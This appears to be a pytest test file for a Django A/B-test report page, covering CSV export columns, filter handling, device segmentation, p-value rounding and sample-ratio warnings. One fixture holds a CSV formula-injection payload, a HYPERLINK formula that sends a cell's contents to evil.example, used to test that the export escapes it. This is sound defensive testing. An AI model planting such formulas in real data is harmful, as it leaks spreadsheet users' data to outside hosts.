"""The report page's CSV export (CONTRACT section 9), segment breakdown and display rules."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse

from django_convert.models import Variation
from django_convert.reports.export import COLUMNS, safe_cell
from django_convert.templatetags.convert_report import p_value
from tests.test_reports_experiment import (
    END,
    EXPERIENCE,
    GOAL,
    GREEN,
    ORIGINAL,
    START,
    configure,
    seed,
)

pytestmark = pytest.mark.django_db
URL = reverse("admin:django_convert_bucketing_report", args=[EXPERIENCE])
RANGE = {
    "goal": GOAL,
    "start": START.date().isoformat(),
    "end": (END - timedelta(days=1)).date().isoformat(),
}
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def experiment() -> None:
    configure({ORIGINAL: 50, GREEN: 50})
    seed({ORIGINAL: 1500, GREEN: 1500}, {ORIGINAL: 0.05, GREEN: 0.09})


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    reader = csv.reader(io.StringIO(text))
    header = next(reader)
    assert tuple(header) == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_csv_has_one_row_per_variation_and_metric_as_the_page_shows(admin_client, experiment):
    page = admin_client.get(URL, RANGE)
    report = page.context["report"]

    rows = read(admin_client.get(URL, {**RANGE, "format": "csv"}))

    assert [(r["variation_id"], r["metric"]) for r in rows] == [
        (ORIGINAL, "conversion_rate"),
        (GREEN, "conversion_rate"),
        (ORIGINAL, "revenue_per_visitor"),
        (GREEN, "revenue_per_visitor"),
    ]
    _base, green = report.variations
    rate = rows[1]
    assert rate["variation"] == "Green button"
    assert int(rate["visitors"]) == green.visitors == 1500
    assert int(rate["conversions"]) == green.converting_visitors
    assert float(rate["value"]) == pytest.approx(green.rate)
    assert 0 <= float(rate["value_low"]) < float(rate["value"]) < float(rate["value_high"]) <= 1
    c = green.rate_comparison
    assert float(rate["uplift"]) == pytest.approx(c.uplift)
    assert float(rate["uplift_low"]) == pytest.approx(c.interval.low)
    assert float(rate["p_value"]) == pytest.approx(c.adjusted_p_value)
    assert float(rate["chance_to_beat_baseline"]) == pytest.approx(c.chance_to_beat_baseline)
    assert rate["significant"] == ("true" if c.significant else "false")
    assert rows[0]["uplift"] == rows[0]["p_value"] == rows[0]["chance_to_beat_baseline"] == ""
    assert rows[0]["significant"] == "false"
    money = rows[3]
    assert float(money["value"]) == pytest.approx(green.capped_revenue_per_visitor)
    if green.capped_visitors:
        assert "capped at" in money["note"]


def test_csv_keeps_the_filters_and_answers_400_for_bad_ones(admin_client, experiment):
    later = {**RANGE, "start": (START + timedelta(days=5)).date().isoformat(), "format": "csv"}
    rows = read(admin_client.get(URL, {**later, "baseline": GREEN}))
    assert rows[0]["variation_id"] == GREEN
    whole = read(admin_client.get(URL, {**RANGE, "format": "csv"}))
    assert int(rows[0]["visitors"]) < int(whole[1]["visitors"])

    bad = admin_client.get(URL, {**RANGE, "end": "2026-10-01", "format": "csv"})
    assert bad.status_code == 400
    assert "not valid" in bad.content.decode()


def test_a_malicious_synced_name_is_text_in_the_csv(admin_client, experiment):
    Variation.objects.filter(pk=GREEN).update(name=EVIL)

    response = admin_client.get(URL, {**RANGE, "format": "csv"})
    rows = read(response)

    assert rows[1]["variation"] == "'" + EVIL
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value
            if value.startswith("-"):
                float(value)  # a negative number, never text
    # The page shows it escaped, as text.
    html = admin_client.get(URL, RANGE).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/" in html


def test_safe_cell() -> None:
    assert safe_cell("-0.25") == "-0.25"
    assert safe_cell("+1e-05") == "+1e-05"
    assert safe_cell("-") == "'-"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("Original") == "Original"


def test_page_breaks_down_by_device_and_names_the_correction(admin_client, experiment):
    response = admin_client.get(URL, {**RANGE, "segment": "device"})
    html = response.content.decode()
    page = response.context["page"]
    assert page.segment == "device"
    assert [s.label for s in page.segments] == ["unknown"]  # the seed stores no device
    assert "By Device" in html
    assert "Holm" in html
    assert 'class="convert-report-chart convert-trend"' in html
    # Under the strict CSP: no inline style anywhere in the charts.
    charts = re.findall(r"<svg[^>]*convert-report-chart.*?</svg>", html, flags=re.DOTALL)
    assert len(charts) == 2
    assert not [chart for chart in charts if "style" in chart or "<script" in chart]


def test_p_values_never_round_across_the_line() -> None:
    assert p_value(0.0497) == "0.0497"
    assert p_value(0.04996) == "0.04996"
    assert p_value(0.0501) == "0.050"
    assert p_value(0.2) == "0.200"


def test_the_page_never_says_the_split_matches_at_p_0_007(admin_client) -> None:
    configure({ORIGINAL: 50, GREEN: 50})
    seed({ORIGINAL: 1060, GREEN: 940}, {ORIGINAL: 0.05, GREEN: 0.05}, early=False)

    response = admin_client.get(URL, RANGE)
    html = response.content.decode()

    srm = response.context["report"].sample_ratio
    assert 0.001 < srm.p_value < 0.01
    assert "The split matches" not in html
    assert "unlikely under the traffic allocation" in html
    assert "2,000 visitors first exposed" in html  # counts grouped
